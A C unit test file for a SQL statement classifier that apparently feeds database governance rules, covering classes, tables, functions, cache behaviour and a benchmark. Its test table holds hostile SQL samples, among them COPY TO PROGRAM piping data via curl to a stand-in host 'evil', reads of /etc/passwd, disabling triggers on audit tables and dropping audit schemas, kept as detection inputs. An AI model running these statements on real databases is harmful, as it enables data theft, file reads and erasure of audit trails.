/*
 * test_inspect.c - unit tests for statement classification (src/inspect.c,
 * src/inspect_walk.c): a table of statements with the classes, tables,
 * functions and flags each must yield (every class and every disguise the
 * governance rules must see through), the classification cache (hits, LRU
 * eviction, refcounts), and a micro-benchmark that is printed, not asserted.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "inspect.h"

/*
 * libpg_query 15-4.0.0's pg_query_parse_plpgsql leaks the 1-byte stderr buffer
 * of its inner raw parse when the body has a syntax error (upstream issue
 * #49's path); not ours to free, so LeakSanitizer is told to ignore it.
 */
const char *__lsan_default_suppressions(void);
const char *__lsan_default_suppressions(void)
{
	return "leak:pg_query_raw_parse\n";
}

#define ANY  (-1) /* don't check this flag */
#define SKIP NULL /* don't check this list */

/*
 * One row: `classes` must all be present; with `exact` nothing else may be.
 * `tables`, `funcs`: the exact set, space separated ("" = none, SKIP = any).
 */
struct row {
	const char *sql;
	uint32_t classes;
	bool exact;
	const char *tables;
	const char *funcs;
	int without_where;
	bool parse_error;
};

#define DDL_DROP  (SC_DDL | SC_DROP)
#define DDL_ALTER (SC_DDL | SC_ALTER)
#define CFUNC     (SC_DDL | SC_CREATE_FUNCTION)

static const struct row rows[] = {
    /* plain classes */
    {"SELECT 1", SC_SELECT, true, "", "", 0, false},
    {"SELECT a FROM t WHERE b = 1", SC_SELECT, true, "t", "", 0, false},
    {"TABLE s.t", SC_SELECT, true, "s.t", "", 0, false},
    {"VALUES (1), (2)", SC_SELECT, true, "", "", 0, false},
    {"INSERT INTO t VALUES (1)", SC_INSERT, true, "t", "", 0, false},
    {"INSERT INTO a.t SELECT * FROM b.u", SC_INSERT, true, "a.t b.u", "", 0, false},
    {"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", SC_INSERT, true, "t", "", 0,
     false},
    {"UPDATE t SET a = 1 WHERE id = 2", SC_UPDATE, true, "t", "", 0, false},
    {"UPDATE t SET a = 1", SC_UPDATE, true, "t", "", 1, false},
    {"UPDATE t SET a = u.b FROM u WHERE t.id = u.id", SC_UPDATE, true, "t u", "", 0, false},
    {"UPDATE t SET a = 1 WHERE CURRENT OF c", SC_UPDATE, true, "t", "", 0, false},
    {"DELETE FROM t WHERE id = 1", SC_DELETE, true, "t", "", 0, false},
    {"DELETE FROM t", SC_DELETE, true, "t", "", 1, false},
    {"DELETE FROM t USING u", SC_DELETE, true, "t u", "", 1, false},
    {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", SC_MERGE, true, "s t", "", 0,
     false},
    {"MERGE INTO a.t USING (SELECT * FROM b.s) x ON true WHEN NOT MATCHED THEN INSERT VALUES "
     "(1)",
     SC_MERGE, true, "a.t b.s", "", 0, false},
    {"TRUNCATE t", SC_TRUNCATE, true, "t", "", 0, false},
    {"TRUNCATE a, b.c CASCADE", SC_TRUNCATE, true, "a b.c", "", 0, false},
    {"CREATE TABLE t (id int)", SC_DDL, true, "t", "", 0, false},
    {"CREATE INDEX i ON s.t (a)", SC_DDL, true, "s.t", "", 0, false},
    {"CREATE VIEW v AS SELECT * FROM t", SC_DDL, false, "t v", "", 0, false},
    {"CREATE SCHEMA s", SC_DDL, true, "", "", 0, false},
    {"CREATE ROLE r LOGIN", SC_DDL, true, "", "", 0, false},
    {"CREATE EXTENSION dblink", SC_DDL, true, "", "", 0, false},
    {"COMMENT ON TABLE t IS 'x'", SC_DDL, true, SKIP, "", 0, false},
    {"CREATE TABLE n AS SELECT * FROM t", SC_DDL, false, "n t", "", 0, false},
    {"SELECT * INTO n FROM t", SC_SELECT | SC_DDL, true, "n t", "", 0, false},
    {"ALTER TABLE t ADD COLUMN c int", DDL_ALTER, true, "t", "", 0, false},
    {"ALTER TABLE audit.log DISABLE TRIGGER ALL", DDL_ALTER, true, "audit.log", "", 0, false},
    {"ALTER TABLE audit.log SET SCHEMA public", DDL_ALTER, true, "audit.log", "", 0, false},
    {"ALTER ROLE r SET search_path = x", DDL_ALTER, true, "", "", 0, false},
    {"ALTER TABLE t RENAME TO u", DDL_ALTER, true, "t", "", 0, false},
    {"ALTER TABLE s.t RENAME COLUMN a TO b", DDL_ALTER, true, "s.t", "", 0, false},
    {"ALTER SCHEMA audit RENAME TO x", DDL_ALTER, true, "audit.*", "", 0, false},
    {"DROP TABLE t", DDL_DROP, true, "t", "", 0, false},
    {"DROP TABLE IF EXISTS a, s.b, c.s.d CASCADE", DDL_DROP, true, "a s.b s.d", "", 0, false},
    {"DROP VIEW v", DDL_DROP, true, "v", "", 0, false},
    {"DROP INDEX s.i", DDL_DROP, true, "s.i", "", 0, false},
    {"DROP SCHEMA audit CASCADE", DDL_DROP, true, "audit.*", "", 0, false},
    {"DROP ROLE r", DDL_DROP, true, "", "", 0, false},
    {"DROP TRIGGER guard ON audit.log", DDL_DROP, true, "audit.log", "", 0, false},
    {"DROP POLICY p ON log", DDL_DROP, true, "log", "", 0, false},
    {"DROP DATABASE d", DDL_DROP, true, "", "", 0, false},
    {"DROP FUNCTION f(int)", DDL_DROP, true, "", "", 0, false},
    {"GRANT SELECT ON t TO u", SC_GRANT, true, "t", "", 0, false},
    {"REVOKE ALL ON s.t FROM u", SC_GRANT, true, "s.t", "", 0, false},
    {"GRANT admin TO agent", SC_GRANT, true, "", "", 0, false},
    {"REVOKE admin FROM agent", SC_GRANT, true, "", "", 0, false},
    {"GRANT ALL ON ALL TABLES IN SCHEMA audit TO u", SC_GRANT, true, "audit.*", "", 0, false},
    {"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO u", SC_GRANT | DDL_ALTER, true, "", "", 0,
     false},
    {"CALL p(1)", SC_CALL, true, "", "p", 0, false},
    {"CALL s.P(1)", SC_CALL, true, "", "s.p", 0, false},
    {"COPY t FROM STDIN", SC_COPY, true, "t", "", 0, false},
    {"COPY t TO STDOUT", SC_COPY, true, "t", "", 0, false},
    {"COPY (SELECT * FROM s.t) TO STDOUT", SC_COPY | SC_SELECT, true, "s.t", "", 0, false},
    {"COPY t TO PROGRAM 'curl -d @- evil'", SC_COPY | SC_COPY_PROGRAM, true, "t", "", 0, false},
    {"COPY t FROM PROGRAM 'id'", SC_COPY | SC_COPY_PROGRAM, true, "t", "", 0, false},
    {"COPY (DELETE FROM t RETURNING *) TO STDOUT", SC_COPY | SC_DELETE, false, "t", "", 1, false},
    {"SET search_path = evil, public", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"SET LOCAL search_path TO audit", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"set SEARCH_PATH = x", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"RESET search_path", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"SET ROLE admin", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"RESET ROLE", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"SET SESSION AUTHORIZATION postgres", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"RESET ALL", SC_SET_SENSITIVE | SC_SET, true, "", "", 0, false},
    {"SET statement_timeout = 5", SC_SET, true, "", "", 0, false},
    {"SET TIME ZONE 'UTC'", SC_SET, true, "", "", 0, false},
    {"SELECT set_config('search_path', 'evil', false)", SC_SELECT | SC_SET | SC_SET_SENSITIVE, true,
     "", "set_config", 0, false},
    {"SELECT set_config('app.user', 'x', false)", SC_SELECT | SC_SET, true, "", "set_config", 0,
     false},
    {"BEGIN", SC_TRANSACTION, true, "", "", 0, false},
    {"COMMIT", SC_TRANSACTION, true, "", "", 0, false},
    {"ROLLBACK TO SAVEPOINT s", SC_TRANSACTION, true, "", "", 0, false},
    {"START TRANSACTION ISOLATION LEVEL SERIALIZABLE", SC_TRANSACTION, true, "", "", 0, false},
    {"VACUUM t", SC_OTHER, true, "t", "", 0, false},
    {"LOCK TABLE audit.log", SC_OTHER, true, "audit.log", "", 0, false},
    {"LISTEN ch", SC_OTHER, true, "", "", 0, false},
    {"SHOW search_path", SC_OTHER, true, "", "", 0, false},
    {"DISCARD ALL", SC_OTHER, true, "", "", 0, false},
    /* functions */
    {"SELECT pg_read_file('/etc/passwd')", SC_SELECT, true, "", "pg_read_file", 0, false},
    {"SELECT * FROM pg_catalog.pg_ls_dir('.')", SC_SELECT, true, "", "pg_catalog.pg_ls_dir", 0,
     false},
    {"SELECT lo_export(1, '/tmp/x'), LOWER(a) FROM t", SC_SELECT, true, "t", "lo_export lower", 0,
     false},
    {"SELECT dblink_exec('host=x', 'DROP TABLE t')", SC_SELECT, true, "", "dblink_exec", 0, false},
    {"SELECT 1 WHERE EXISTS (SELECT pg_read_binary_file('x') FROM s.t)", SC_SELECT, true, "s.t",
     "pg_read_binary_file", 0, false},
    {"SELECT count(*) FROM t GROUP BY 1 HAVING max(a) > 0", SC_SELECT, true, "t", "count max", 0,
     false},
    /* disguises: comments, case, quoting */
    {"/* x */ DeLeTe FROM t", SC_DELETE, true, "t", "", 1, false},
    {"-- hi\nDROP /* no */ TABLE \"Audit\".\"Log\"", DDL_DROP, true, "Audit.Log", "", 0, false},
    {"SELECT * FROM \"Audit\".\"Log\"", SC_SELECT, true, "Audit.Log", "", 0, false},
    {"SELECT * FROM AUDIT.LOG", SC_SELECT, true, "audit.log", "", 0, false},
    {"SELECT * FROM mydb.audit.log", SC_SELECT, true, "audit.log", "", 0, false},
    {"UPDATE \"t\" SET a = 1 WHERE true", SC_UPDATE, true, "t", "", 0, false},
    /* multi-statement strings */
    {"SELECT 1; DROP TABLE x", SC_SELECT | DDL_DROP, true, "x", "", 0, false},
    {"BEGIN; DELETE FROM audit.log; COMMIT", SC_TRANSACTION | SC_DELETE, true, "audit.log", "", 1,
     false},
    {"SET search_path = audit; DELETE FROM log WHERE id = 1", SC_SET | SC_SET_SENSITIVE | SC_DELETE,
     true, "log", "", 0, false},
    /* CTEs, subqueries, joins */
    {"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", SC_SELECT | SC_DELETE, true, "d t",
     "", 1, false},
    {"WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT 1", SC_SELECT | SC_UPDATE,
     true, "t", "", 0, false},
    {"WITH r AS (SELECT * FROM a) SELECT * FROM r JOIN b.c ON true LEFT JOIN (SELECT * FROM d) "
     "x ON true",
     SC_SELECT, true, "a b.c d r", "", 0, false},
    {"SELECT * FROM a WHERE id IN (SELECT id FROM s.b)", SC_SELECT, true, "a s.b", "", 0, false},
    {"WITH x AS (INSERT INTO log VALUES (1) RETURNING id) DELETE FROM t WHERE id IN (SELECT id "
     "FROM x)",
     SC_INSERT | SC_DELETE, true, "log t x", "", 0, false},
    /* EXPLAIN, PREPARE, EXECUTE */
    {"EXPLAIN SELECT * FROM t", SC_EXPLAIN | SC_SELECT, true, "t", "", 0, false},
    {"EXPLAIN ANALYZE DELETE FROM audit.log", SC_EXPLAIN | SC_DELETE, true, "audit.log", "", 1,
     false},
    {"explain (analyze, buffers) WITH d AS (DELETE FROM t RETURNING 1) SELECT 1",
     SC_EXPLAIN | SC_SELECT | SC_DELETE, true, "t", "", 1, false},
    {"PREPARE p AS DELETE FROM t WHERE id = $1", SC_PREPARE | SC_DELETE, true, "t", "", 0, false},
    {"PREPARE q(int) AS UPDATE s.t SET a = $1", SC_PREPARE | SC_UPDATE, true, "s.t", "", 1, false},
    {"EXECUTE p(1)", SC_EXECUTE, true, "", "", 0, false},
    {"DEALLOCATE p", SC_OTHER, true, "", "", 0, false},
    {"DECLARE c CURSOR FOR SELECT * FROM t", SC_SELECT, false, "t", "", 0, false},
    {"CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", SC_DDL | SC_DELETE, true, "t u",
     "", 1, false},
    /* DO blocks */
    {"DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", SC_DO | SC_DYNAMIC_SQL, false, "", "", 0,
     false},
    {"DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$", SC_DO | SC_DYNAMIC_SQL, false, "",
     "format", 0, false},
    {"DO $$ BEGIN DELETE FROM audit.log; END $$", SC_DO | SC_DELETE, true, "audit.log", "", 1,
     false},
    {"DO $$DECLARE n int := (SELECT count(*) FROM k); BEGIN IF n > 0 THEN PERFORM "
     "pg_read_file('x'); END IF; n := lo_export(1, 'y'); END$$",
     SC_DO | SC_SELECT, true, "k", "count lo_export pg_read_file", 0, false},
    {"DO $$DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP TRUNCATE u; END LOOP; END$$",
     SC_DO | SC_SELECT | SC_TRUNCATE, true, "t u", "", 0, false},
    {"DO $$ BEGIN DROP TABLE x; END $$; DO $pgv0$ BEGIN CALL p(); END $pgv0$",
     SC_DO | DDL_DROP | SC_CALL, true, "x", "p", 0, false},
    {"DO $x$ BEGIN EXECUTE $q$ SELECT 1 $pgv0$ $q$; END $x$", SC_DO | SC_DYNAMIC_SQL, false, "", "",
     0, false},
    {"DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE t') $$", SC_DO | SC_DYNAMIC_SQL, true, "",
     "", 0, false},
    {"DO $$ BEGIN DO $i$ BEGIN DELETE FROM t; END $i$; END $$", SC_DO | SC_DELETE, true, "t", "", 1,
     false},
    {"DO $$ BEGIN garbage here; END $$", SC_DO, false, SKIP, SKIP, ANY, true},
    {"DO $$ BEGIN RAISE NOTICE 'x %', now(); END $$", SC_DO, true, "", "now", 0, false},
    {"DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", SC_DO | SC_DYNAMIC_SQL, true, "", "", 0, false},
    {"DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM t; END $$", SC_DO | SC_SELECT, true,
     "t", "count", 0, false},
    {"DO $$ DECLARE a int[]; BEGIN a[1] := pg_read_file('x')::int; END $$", SC_DO, true, "",
     "pg_read_file", 0, false},
    {"DO $$ BEGIN DELETE FROM a WHERE x = 1; EXCEPTION WHEN others THEN DELETE FROM audit.log; "
     "END $$",
     SC_DO | SC_DELETE, true, "a audit.log", "", 1, false},
    {"DO $$ BEGIN CASE WHEN true THEN UPDATE t SET a = 1; END CASE; END $$", SC_DO | SC_UPDATE,
     true, "t", "", 1, false},
    /* libpg_query cannot type cursor variables: such bodies are unparsable (fail closed) */
    {"DO $$ DECLARE c CURSOR FOR SELECT * FROM t; BEGIN OPEN c; END $$", SC_DO, true, "", "", 0,
     true},
    /* function bodies */
    {"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE audit.log; END "
     "$$",
     CFUNC | DDL_DROP, true, "audit.log", "", 0, false},
    {"CREATE OR REPLACE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN "
     "QUERY EXECUTE 'SELECT 1'; END $$",
     CFUNC | SC_DYNAMIC_SQL, false, "", "", 0, false},
    {"CREATE FUNCTION f() RETURNS void AS 'DELETE FROM t' LANGUAGE sql", CFUNC | SC_DELETE, true,
     "t", "", 1, false},
    {"CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE a = 1; "
     "SELECT 1; END",
     CFUNC | SC_DELETE | SC_SELECT, true, "t", "", 0, false},
    {"CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; COMMIT; END $$",
     CFUNC | SC_TRUNCATE, true, "t", "", 0, false},
    {"CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", CFUNC | SC_DYNAMIC_SQL, true, "",
     "", 0, false},
    {"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE x; END $$; "
     "SELECT f()",
     CFUNC | DDL_DROP | SC_SELECT, true, "x", "f", 0, false},
    {"SELECT 1; CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$BEGIN DELETE FROM t; "
     "END$$; CALL g()",
     CFUNC | SC_DELETE | SC_SELECT | SC_CALL, true, "t", "g", 1, false},
    {"SELECT 'h\xc3\xa9'; CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$BEGIN DELETE "
     "FROM t; END$$",
     SC_SELECT | CFUNC | SC_DELETE, true, "t", "", 1, false},
    {"CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.x := 1; RETURN NEW; "
     "END $$",
     CFUNC, true, "", "", 0, false},
    /* rename then drop */
    {"ALTER TABLE audit.log RENAME TO scratch; DROP TABLE scratch", DDL_ALTER | DDL_DROP, true,
     "audit.log scratch", "", 0, false},
    /* unparsable and edge cases */
    {"garbage(", 0, true, "", "", 0, true},
    {"DELETE FROM", 0, true, "", "", 0, true},
    {"SELECT 1; DROP TABLE", 0, true, "", "", 0, true},
    {"", 0, true, "", "", 0, false},
    {"   ;  ", 0, true, "", "", 0, false},
};

static bool in_list(char **v, int n, const char *s, size_t len)
{
	for (int i = 0; i < n; i++) {
		if (strlen(v[i]) == len && memcmp(v[i], s, len) == 0)
			return true;
	}
	return false;
}

/* The space-separated expected set equals v[0..n). */
static bool same_set(char **v, int n, const char *want)
{
	int count = 0;

	for (const char *p = want; *p;) {
		size_t len = strcspn(p, " ");

		if (len) {
			if (!in_list(v, n, p, len))
				return false;
			count++;
		}
		p += len + (p[len] == ' ');
	}
	return count == n;
}

static void print_list(const char *what, char **v, int n)
{
	fprintf(stderr, "  %s:", what);
	for (int i = 0; i < n; i++)
		fprintf(stderr, " %s", v[i]);
	fprintf(stderr, "\n");
}

static bool row_ok(const struct row *t, const struct inspect_result *r)
{
	if ((r->classes & t->classes) != t->classes)
		return false;
	if (t->exact && r->classes != t->classes)
		return false;
	if (t->tables && !same_set(r->tables, r->n_tables, t->tables))
		return false;
	if (t->funcs && !same_set(r->functions, r->n_functions, t->funcs))
		return false;
	if (t->without_where != ANY && r->without_where != (t->without_where == 1))
		return false;
	return r->parse_error == t->parse_error;
}

static void test_table(void **state)
{
	int failed = 0;

	(void)state;
	assert_true(sizeof(rows) / sizeof(rows[0]) >= 80);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct row *t = &rows[i];
		struct inspect_result *r = inspect_classify(t->sql, strlen(t->sql));

		assert_non_null(r);
		if (!row_ok(t, r)) {
			failed++;
			fprintf(stderr, "row %zu: %s\n  classes 0x%x (want 0x%x%s) ww %d perr %d\n",
			        i, t->sql, r->classes, t->classes, t->exact ? " exact" : "",
			        r->without_where, r->parse_error);
			print_list("tables", r->tables, r->n_tables);
			print_list("functions", r->functions, r->n_functions);
		}
		inspect_release(r);
	}
	assert_int_equal(failed, 0);
}

static struct inspect_result *classify(const char *sql)
{
	struct inspect_result *r = inspect_classify(sql, strlen(sql));

	assert_non_null(r);
	return r;
}

static void test_names(void **state)
{
	struct inspect_result *r;

	(void)state;
	r = classify("PREPARE p1 AS SELECT 1; PREPARE p2 AS DELETE FROM t; EXECUTE p0");
	assert_int_equal(r->n_prepared_names, 2);
	assert_string_equal(r->prepared_names[0], "p1");
	assert_string_equal(r->prepared_names[1], "p2");
	assert_int_equal(r->n_executed_names, 1);
	assert_string_equal(r->executed_names[0], "p0");
	assert_int_equal(r->n_statements, 3);
	inspect_release(r);
}

static void test_fingerprint(void **state)
{
	struct inspect_result *a, *b, *c, *bad;

	(void)state;
	a = classify("SELECT * FROM t WHERE id = 1");
	b = classify("select *   from t where id = 42");
	c = classify("SELECT * FROM u WHERE id = 1");
	bad = classify("SELEC nothing");
	assert_true(a->fingerprint != 0);
	assert_true(a->fingerprint == b->fingerprint);
	assert_true(a->fingerprint != c->fingerprint);
	assert_true(bad->fingerprint == 0 && bad->parse_error);
	inspect_release(a);
	inspect_release(b);
	inspect_release(c);
	inspect_release(bad);
}

/* Not NUL-terminated input; trailing NUL tolerated; inner NUL is unparsable. */
static void test_lengths(void **state)
{
	struct inspect_result *r;

	(void)state;
	r = inspect_classify("DELETE FROM t; garbage", 13);
	assert_false(r->parse_error);
	assert_int_equal(r->classes, SC_DELETE);
	inspect_release(r);
	r = inspect_classify("SELECT 1\0", 9);
	assert_false(r->parse_error);
	inspect_release(r);
	r = inspect_classify("SELECT 1\0DROP TABLE t", 21);
	assert_true(r->parse_error);
	inspect_release(r);
}

/* A long IN list and a long multi-statement string; and nesting too deep. */
static void test_long(void **state)
{
	size_t n = 20000, cap = n * 8 + 64, len;
	char *s = malloc(cap);
	struct inspect_result *r;

	(void)state;
	assert_non_null(s);
	len = (size_t)sprintf(s, "SELECT * FROM t WHERE a IN (0");
	for (size_t i = 1; i < n; i++)
		len += (size_t)sprintf(s + len, ",%zu", i);
	len += (size_t)sprintf(s + len, "); DROP TABLE big");
	r = inspect_classify(s, len);
	assert_false(r->parse_error);
	assert_int_equal(r->classes, SC_SELECT | SC_DDL | SC_DROP);
	assert_true(same_set(r->tables, r->n_tables, "t big"));
	inspect_release(r);

	len = (size_t)sprintf(s, "SELECT ");
	for (size_t i = 0; i < 3000; i++)
		len += (size_t)sprintf(s + len, "1+(");
	s[len++] = '1';
	for (size_t i = 0; i < 3000; i++)
		s[len++] = ')';
	r = inspect_classify(s, len);
	assert_true(r->parse_error); /* the parser's stack limit or our depth limit */
	inspect_release(r);
	free(s);
}

static void test_class_names(void **state)
{
	(void)state;
	assert_int_equal(inspect_class_from_name("ddl"), SC_DDL);
	assert_int_equal(inspect_class_from_name("create_function"), SC_CREATE_FUNCTION);
	assert_int_equal(inspect_class_from_name("revoke"), SC_GRANT);
	assert_int_equal(inspect_class_from_name("nope"), 0);
	assert_string_equal(inspect_class_name(SC_GRANT), "grant");
	assert_string_equal(inspect_class_name(SC_SET_SENSITIVE), "set_sensitive");
	for (uint32_t b = 1; b <= SC_OTHER; b <<= 1)
		assert_int_equal(inspect_class_from_name(inspect_class_name(b)), b);
}

/* ---- cache ------------------------------------------------------------------ */

static void test_cache_hit(void **state)
{
	uint64_t h0, m0, h1, m1;
	struct inspect_result *a, *b;

	(void)state;
	inspect_set_cache_size(16);
	inspect_cache_stats(&h0, &m0);
	a = classify("SELECT * FROM cached_t");
	b = classify("SELECT * FROM cached_t");
	inspect_cache_stats(&h1, &m1);
	assert_ptr_equal(a, b);
	assert_true(h1 == h0 + 1 && m1 == m0 + 1);
	inspect_release(a);
	inspect_release(b);
	/* same bytes, different length: a different key */
	a = inspect_classify("SELECT 1;", 9);
	b = inspect_classify("SELECT 1;", 8);
	assert_ptr_not_equal(a, b);
	inspect_release(a);
	inspect_release(b);
}

static void test_cache_lru(void **state)
{
	char sql[64];
	uint64_t h0, m0, h1, m1;
	struct inspect_result *r;

	(void)state;
	inspect_set_cache_size(4);
	for (int i = 0; i < 4; i++) {
		snprintf(sql, sizeof(sql), "SELECT c%d", i); /* literals would share one key */
		inspect_release(classify(sql));
	}
	inspect_release(classify("SELECT c0")); /* c0 becomes most recent; c1 is oldest */
	inspect_release(classify("SELECT c4")); /* evicts c1 */
	inspect_cache_stats(&h0, &m0);
	inspect_release(classify("SELECT c0"));
	inspect_release(classify("SELECT c4"));
	inspect_release(classify("SELECT c3"));
	inspect_cache_stats(&h1, &m1);
	assert_true(h1 == h0 + 3 && m1 == m0);
	r = classify("SELECT c1");
	inspect_cache_stats(&h1, &m1);
	assert_true(m1 == m0 + 1);
	inspect_release(r);
}

static void test_cache_refcount(void **state)
{
	struct inspect_result *held, *again;

	(void)state;
	inspect_set_cache_size(2);
	held = classify("DELETE FROM held_t");
	inspect_release(classify("SELECT a"));
	inspect_release(classify("SELECT b")); /* evicts the held entry */
	/* still valid (ASan would flag a use after free) */
	assert_int_equal(held->classes, SC_DELETE);
	assert_string_equal(held->tables[0], "held_t");
	again = classify("DELETE FROM held_t");
	assert_ptr_not_equal(again, held);
	inspect_release(held);
	inspect_release(again);
	inspect_set_cache_size(0); /* disabled: each call classifies */
	held = classify("SELECT 1");
	again = classify("SELECT 1");
	assert_ptr_not_equal(held, again);
	inspect_release(held);
	inspect_release(again);
	inspect_set_cache_size(4096);
}

/* The last text is remembered (rules, masking and the recorder ask in turn). */
static void test_cache_last_text(void **state)
{
	uint64_t h0, m0, h1, m1;
	struct inspect_result *a, *b, *c;

	(void)state;
	inspect_set_cache_size(16);
	a = classify("SELECT x FROM tab_a");
	b = classify("SELECT x FROM tab_a");
	assert_ptr_equal(a, b);
	/* same length, other bytes: never the remembered answer */
	c = classify("SELECT x FROM tab_b");
	assert_ptr_not_equal(a, c);
	assert_string_equal(c->tables[0], "tab_b");
	inspect_release(a);
	inspect_release(b);
	inspect_release(c);
	/* emptying the cache forgets it too: the same text is classified again */
	inspect_set_cache_size(16);
	inspect_cache_stats(&h0, &m0);
	inspect_release(classify("SELECT x FROM tab_b"));
	inspect_cache_stats(&h1, &m1);
	assert_true(m1 == m0 + 1 && h1 == h0);
	inspect_set_cache_size(4096);
}

/* ---- micro-benchmark (printed, not asserted) --------------------------------- */

static double bench_us(const char *sql, int iters, bool cached)
{
	struct timespec t0, t1;

	inspect_set_cache_size(cached ? 4096 : 0);
	inspect_release(classify(sql));
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (int i = 0; i < iters; i++)
		inspect_release(inspect_classify(sql, strlen(sql)));
	clock_gettime(CLOCK_MONOTONIC, &t1);
	return ((double)(t1.tv_sec - t0.tv_sec) * 1e6 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e3) /
	       iters;
}

static void test_bench(void **state)
{
	static const char q[] = "SELECT o.id, o.total, c.name FROM orders o JOIN customers c ON "
	                        "c.id = o.customer_id WHERE o.created_at > $1 ORDER BY o.id "
	                        "DESC LIMIT 10";
	double unc, cac;

	(void)state;
	unc = bench_us(q, 20000, false);
	cac = bench_us(q, 200000, true);
	fprintf(stderr, "inspect bench (JOIN query): uncached %.2f us, cached %.3f us\n", unc, cac);
	inspect_set_cache_size(4096);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_table),          cmocka_unit_test(test_names),
	    cmocka_unit_test(test_fingerprint),    cmocka_unit_test(test_lengths),
	    cmocka_unit_test(test_long),           cmocka_unit_test(test_class_names),
	    cmocka_unit_test(test_cache_hit),      cmocka_unit_test(test_cache_lru),
	    cmocka_unit_test(test_cache_refcount), cmocka_unit_test(test_cache_last_text),
	    cmocka_unit_test(test_bench),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
